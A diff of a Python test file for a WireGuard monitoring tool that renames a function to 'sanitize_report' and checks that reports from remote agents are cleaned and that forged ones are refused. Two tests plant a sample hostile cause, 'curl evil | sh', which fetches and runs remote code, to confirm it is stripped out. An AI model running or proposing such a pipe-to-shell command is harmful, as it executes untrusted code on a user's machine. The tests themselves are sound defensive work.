@@ -17,32 +17,32 @@ from wgmon_tui.monitor.board import Board
 from wgmon_tui.monitor.rounds import Round
 from wgmon_tui.probe.records import Handshake, Tunnel
 from wgmon_tui.service.agent.protocol import BadLineError
-from wgmon_tui.service.hearsay import taken
+from wgmon_tui.service.hearsay import sanitize_report
 
 NOW = 1_800_000_000.0
 WEEK_S = 7 * 86400.0
 
 
-def began_at(at: float, ahead_s: float = 0.0) -> float:
-    return taken(healthy(at=at), FRA1, "fra", ahead_s, NOW).check.started_at
+def began_at(at: float, clock_offset_s: float = 0.0) -> float:
+    return sanitize_report(healthy(at=at), FRA1, "fra", clock_offset_s, NOW).check.started_at
 
 
 def test_times_lie_where_they_can() -> None:
     assert began_at(NOW - 10) == NOW - 10
     assert began_at(NOW + 3600) == NOW + 5
     assert began_at(0.0) == NOW - WEEK_S
-    assert began_at(NOW + 3600, ahead_s=3600.0) == NOW
+    assert began_at(NOW + 3600, clock_offset_s=3600.0) == NOW
 
 
 def test_the_verdict_is_theirs_and_the_words_are_ours() -> None:
     theirs = Diagnosis(Verdict.SILENT, "evil", ("evil",), (Cause("evil", "evil", "curl evil | sh"),))
-    outcome = taken(replace(silent(at=NOW), diagnoses=(theirs,)), FRA1, "fra", 0.0, NOW)
+    outcome = sanitize_report(replace(silent(at=NOW), diagnoses=(theirs,)), FRA1, "fra", 0.0, NOW)
     assert outcome.diagnosis == silent(at=NOW).diagnosis
 
 
 def test_of_a_verdict_that_hangs_on_what_only_they_know_the_summary_is_shown_and_nothing_to_type() -> None:
     theirs = Diagnosis(Verdict.LOSSY, "5 of 20 lost", ("lost",), (Cause("evil", "evil", "curl evil | sh"),))
-    outcome = taken(replace(healthy(at=NOW), diagnoses=(theirs,)), FRA1, "fra", 0.0, NOW)
+    outcome = sanitize_report(replace(healthy(at=NOW), diagnoses=(theirs,)), FRA1, "fra", 0.0, NOW)
     assert outcome.diagnosis == Diagnosis(Verdict.LOSSY, "5 of 20 lost", ("lost",))
 
 
@@ -61,13 +61,13 @@ def test_what_no_check_finds_is_refused(change: dict[str, object]) -> None:
     [check] = healthy(at=NOW).checks
     forged = replace(check, **change)  # type: ignore[arg-type]  # of any field, that is the point
     with pytest.raises(BadLineError, match="what no check finds"):
-        taken(Round((forged,), healthy(at=NOW).diagnoses), FRA1, "fra", 0.0, NOW)
+        sanitize_report(Round((forged,), healthy(at=NOW).diagnoses), FRA1, "fra", 0.0, NOW)
 
 
 @given(rounds, st.floats(-1e9, 1e9))
-def test_any_round_becomes_one_of_ours_or_is_refused(outcome: Round, ahead_s: float) -> None:
+def test_any_round_becomes_one_of_ours_or_is_refused(outcome: Round, clock_offset_s: float) -> None:
     try:
-        ours = taken(outcome, FRA1, "fra", ahead_s, NOW)
+        ours = sanitize_report(outcome, FRA1, "fra", clock_offset_s, NOW)
     except BadLineError:
         return
     for check in ours.checks:
@@ -80,12 +80,14 @@ def test_any_round_becomes_one_of_ours_or_is_refused(outcome: Round, ahead_s: fl
 @given(st.lists(st.tuples(st.sampled_from(["fra", "nyc"]), rounds), max_size=5))
 def test_whatever_was_taken_of_a_round_can_stand_on_the_board(told: list[tuple[str, Round]]) -> None:
     server = replace(FRA1, fail_after=1, recover_after=1)
-    board = Board([server])
-    board.see_from([Vantage("fra", ("ssh",)), Vantage("nyc", ("ssh",))], 2, NOW)
-    board.record("fra1", healthy(server, NOW), NOW)
+    fleet_state = Board([server])
+    fleet_state.set_vantages([Vantage("fra", ("ssh",)), Vantage("nyc", ("ssh",))], 2, NOW)
+    fleet_state.record("fra1", healthy(server, NOW), NOW)
     for number, (vantage, outcome) in enumerate(told):
         try:
-            board.sight(vantage, "fra1", taken(outcome, server, vantage, 0.0, NOW), NOW + number)
+            fleet_state.record_vantage(
+                vantage, "fra1", sanitize_report(outcome, server, vantage, 0.0, NOW), NOW + number
+            )
         except BadLineError:
             continue
-    assert board.rows["fra1"].word
+    assert fleet_state.states["fra1"].status_word
